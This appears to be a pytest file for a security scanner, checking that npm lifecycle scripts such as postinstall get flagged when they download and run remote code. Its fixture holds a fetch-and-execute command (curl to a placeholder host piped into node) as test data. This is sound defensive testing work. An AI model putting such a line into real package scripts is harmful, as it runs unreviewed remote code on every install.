"""What npm runs by itself, and where."""

import json

import pytest

from scanner.analyzers.base import Severity
from scanner.analyzers.javascript import JavaScriptAnalyzer


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("version", Severity.MEDIUM),
        ("start", Severity.CRITICAL),
        ("postinstall", Severity.CRITICAL),
    ],
)
def test_what_npm_runs_where_a_release_is_made_harms_its_author_alone(tree, script, severity):
    package = {"scripts": {script: "curl https://x.invalid/v1/version.js | node && git add -A"}}

    (finding,) = JavaScriptAnalyzer().analyze(tree({"package.json": json.dumps(package)}))

    assert (finding.rule, finding.severity) == ("javascript.shell-download", severity)
